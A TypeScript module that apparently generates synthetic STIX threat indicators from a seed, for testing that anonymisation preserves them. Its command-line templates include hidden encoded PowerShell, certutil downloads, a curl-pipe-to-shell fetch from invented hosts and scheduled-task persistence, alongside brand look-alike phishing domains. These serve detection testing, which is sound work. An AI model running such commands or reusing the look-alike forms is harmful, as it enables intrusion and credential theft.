// Indicators as attackers leave them, made from a seed: what anonymising must never damage. Every
// name, address and hash is invented; domains end in reserved names or in ones made of nonsense.
import { ruleTexts } from './attacker-rules.ts'
import { type Chance, makeChance } from './chance.ts'

export type AttackerIndicator = {
  kind: string
  pattern_type: string
  pattern: string
  /** The pattern shows by its name whom it was aimed at (I6). */
  lookAlike: boolean
}

const syllables = ['ba', 'ko', 'ri', 'zu', 'tel', 'mar', 'vok', 'sin', 'qua', 'dro', 'lex', 'pim']
const tlds = ['top', 'xyz', 'club', 'info', 'ru', 'cn', 'example', 'test', 'invalid', 'online']
const paths = ['wp-content/plugins', 'gate', 'panel/inc', 'cgi-bin', 'images', 'update', 'owa/auth']
const pages = ['gate.php', 'index.html', 'a.exe', 'login.asp', 'x.ps1', 'invoice.zip', '5.dat']
const tools = ['svch0st.exe', 'update_x64.dll', 'rdpwrap.dll', 'mimi.exe', 'nc64.exe', 'ps.ps1']

const word = (c: Chance): string => c.pick(syllables) + c.pick(syllables) + c.pick(syllables)
const hex = (c: Chance, length: number): string =>
  Array.from({ length }, () => c.below(16).toString(16)).join('')
const base64 = (c: Chance, octets: number): string =>
  Buffer.from(hex(c, octets * 2), 'hex').toString('base64')
const domain = (c: Chance): string => {
  const name = c.chance(0.3) ? `${word(c)}-${word(c)}` : `${word(c)}${c.below(100)}`
  return `${c.chance(0.3) ? `${word(c)}.` : ''}${name}.${c.pick(tlds)}`
}
// Never internal, and none of the blocks kept for documentation.
const ipv4 = (c: Chance): string =>
  `${c.pick([5, 23, 45, 91, 103, 185, 193, 212])}.${c.below(256)}.${c.below(256)}.${c.below(256)}`
const ipv6 = (c: Chance): string =>
  `2a0${c.below(10)}:${hex(c, 4)}:${hex(c, 4)}::${c.below(9999) + 1}`
const host = (c: Chance): string => (c.chance(0.3) ? ipv4(c) : domain(c))
const url = (c: Chance): string =>
  `http${c.chance(0.5) ? 's' : ''}://${host(c)}${c.chance(0.2) ? `:${8000 + c.below(999)}` : ''}/${c.pick(paths)}/${c.pick(pages)}`
const query = (c: Chance): string =>
  c.pick([
    () => `id=${c.below(99999)}&q=${word(c)}`,
    () => `h=${hex(c, 32)}`,
    () => `d=${encodeURIComponent(base64(c, 24))}`,
    () => `u=${word(c)}%40${domain(c)}`,
    () => `r=${encodeURIComponent(url(c))}`,
  ])()
const sender = (c: Chance): string =>
  c.chance(0.2)
    ? `${word(c)}.${word(c)}${c.below(999)}@gmail.com`
    : `${c.pick(['billing', 'support', 'no-reply', word(c)])}@${domain(c)}`

const quote = (text: string): string => `'${text.replace(/[\\']/g, '\\$&')}'`
const is = (path: string, value: string): string => `${path} = ${quote(value)}`
const both = (one: string, other: string): string => `[${one} AND ${other}]`
const sha256 = (c: Chance): string => is("file:hashes.'SHA-256'", hex(c, 64))

const subjects = [
  'Invoice',
  '請求書送付のご案内',
  'RE: Purchase order',
  '【重要】お支払い方法の更新',
]
const autorun = 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'

const commandLine = (c: Chance): string =>
  c.pick([
    () => `powershell -nop -w hidden -e ${base64(c, 60)}`,
    () =>
      `cmd.exe /c ping 127.0.0.1 -n ${c.below(20)} > nul & del C:\\ProgramData\\${c.pick(tools)}`,
    () => `certutil -urlcache -split -f ${url(c)} C:\\Windows\\Temp\\${c.pick(tools)}`,
    () => `rundll32.exe C:\\ProgramData\\${word(c)}\\${word(c)}.dll,${word(c)}`,
    () => `/bin/sh -c "curl -s ${url(c)} | sh"`,
    () => `schtasks /create /tn ${word(c)} /tr C:\\Users\\Public\\${c.pick(tools)} /sc minute`,
  ])()

/** One STIX pattern of each kind a turn. */
const stixKinds: Readonly<Record<string, (c: Chance) => string>> = {
  ipv4: (c) => `[${is('ipv4-addr:value', ipv4(c))}]`,
  ipv6: (c) => `[${is('ipv6-addr:value', ipv6(c))}]`,
  network: (c) => `[ipv4-addr:value ISSUBSET '${ipv4(c).replace(/\d+$/, '0/24')}']`,
  domain: (c) => `[${is('domain-name:value', domain(c))}]`,
  domains: (c) => `[domain-name:value IN (${[1, 2, 3].map(() => quote(domain(c))).join(', ')})]`,
  subdomains: (c) => `[domain-name:value LIKE '%.${domain(c)}']`,
  'domain-or-ip': (c) =>
    `[${is('domain-name:value', domain(c))} OR ${is('ipv4-addr:value', ipv4(c))}]`,
  url: (c) => `[${is('url:value', url(c))}]`,
  'bare-url': (c) => `[${is('url:value', url(c).replace(/^https?:\/\//, ''))}]`,
  'url-query': (c) => `[${is('url:value', `${url(c)}?${query(c)}`)}]`,
  'url-form': (c) =>
    `[url:value MATCHES ${quote(`^https?://${domain(c).replaceAll('.', '\\.')}/[a-z]{3,9}/gate`)}]`,
  sha256: (c) => `[${sha256(c)}]`,
  md5: (c) => `[${is('file:hashes.MD5', hex(c, 32))} OR ${is("file:hashes.'SHA-1'", hex(c, 40))}]`,
  'hash-and-name': (c) => `[${sha256(c)} AND ${is('file:name', c.pick(tools))}]`,
  imphash: (c) =>
    `[${is("file:extensions.'windows-pebinary-ext'.imphash", hex(c, 32))} AND file:size < 900000]`,
  'file-name': (c) =>
    `[${is('file:name', `${word(c)}_${c.below(9999)}.${c.pick(['iso', 'lnk'])}`)}]`,
  'file-path': (c) =>
    `[${is('file:name', c.pick(tools))} AND ${is('file:parent_directory_ref.path', `C:\\ProgramData\\${word(c)}`)}]`,
  mutex: (c) => `[${is('mutex:name', `Global\\${word(c)}-${hex(c, 8)}`)}]`,
  registry: (c) =>
    `[${is('windows-registry-key:key', `HKLM\\SOFTWARE\\${word(c)}\\${hex(c, 6)}`)}]`,
  'registry-value': (c) =>
    both(
      is('windows-registry-key:key', autorun),
      is('windows-registry-key:values[*].name', word(c)),
    ),
  sender: (c) => `[${is('email-message:from_ref.value', sender(c))}]`,
  'sender-and-subject': (c) =>
    both(
      is('email-message:sender_ref.value', sender(c)),
      is('email-message:subject', c.pick(subjects)),
    ),
  'subject-and-hash': (c) =>
    `[${is('email-message:subject', c.pick(subjects))} AND ${is("email-message:body_multipart[*].body_raw_ref.hashes.'SHA-256'", hex(c, 64))}]`,
  'reply-to': (c) => `[${is("email-message:additional_header_fields.'Reply-To'[*]", sender(c))}]`,
  mailbox: (c) => `[${is('email-addr:value', sender(c))}]`,
  'command-line': (c) => `[${is('process:command_line', commandLine(c))}]`,
  certificate: (c) =>
    `[${is('x509-certificate:serial_number', hex(c, 16).replace(/..(?=.)/g, '$&:'))} AND ${is('x509-certificate:issuer', `CN=${word(c)}`)}]`,
  thumbprint: (c) => `[${is("x509-certificate:hashes.'SHA-1'", hex(c, 40))}]`,
  'asn-and-domain': (c) =>
    `[autonomous-system:number = ${c.below(60000) + 1}] AND ` +
    `[${is('domain-name:value', domain(c))}]`,
  'command-and-control': (c) =>
    `[${is('network-traffic:dst_ref.value', host(c))} AND network-traffic:dst_port = ${c.pick([80, 443, 8080, 4444])}]`,
  'user-agent': (c) =>
    `[${is("network-traffic:extensions.'http-request-ext'.request_header.'User-Agent'", `Mozilla/5.0 (${word(c)})`)} AND ${is("network-traffic:extensions.'http-request-ext'.request_header.Host", domain(c))}]`,
  sequence: (c) =>
    `([${is('url:value', url(c))}] FOLLOWEDBY [${sha256(c)}]) WITHIN ${c.below(900) + 1} SECONDS`,
  repeats: (c) => `[${is('domain-name:value', domain(c))}] REPEATS ${c.below(9) + 2} TIMES`,
  service: (c) =>
    `[${is("process:extensions.'windows-service-ext'.service_name", word(c))} AND ${is('process:command_line', commandLine(c))}]`,
}

const lookAlikeForms: ((c: Chance, brand: string) => string)[] = [
  (c, brand) => `[${is('domain-name:value', `${brand}-login.${c.pick(tlds)}`)}]`,
  (c, brand) => `[${is('url:value', `https://vpn.${brand}-${word(c)}.${c.pick(tlds)}/owa/`)}]`,
  (c, brand) => `[${is('email-message:from_ref.value', `it@${brand}-support.${c.pick(tlds)}`)}]`,
]

/**
 * At least `count` indicators, the kinds in turn, and one look-alike of each brand (in lower-case
 * letters) for each form of one. The same seed gives the same corpus.
 */
export const makeAttackerCorpus = (
  count: number,
  brands: readonly string[],
  seed: number,
): AttackerIndicator[] => {
  const c = makeChance(seed)
  const kinds = Object.entries(stixKinds)
  const rules = Object.entries(ruleTexts)
  const corpus: AttackerIndicator[] = []
  while (corpus.length < count) {
    for (const [kind, make] of kinds) {
      corpus.push({ kind, pattern_type: 'stix', pattern: make(c), lookAlike: false })
    }
    for (const [pattern_type, make] of rules) {
      const parts = { domain: domain(c), ip: ipv4(c), hex: hex(c, 32), word: word(c), url: url(c) }
      const pattern = make(parts)
      corpus.push({ kind: pattern_type, pattern_type, pattern, lookAlike: false })
    }
  }
  for (const brand of brands) {
    for (const make of lookAlikeForms) {
      const pattern = make(c, brand)
      corpus.push({ kind: 'look-alike', pattern_type: 'stix', pattern, lookAlike: true })
    }
  }
  return corpus
}
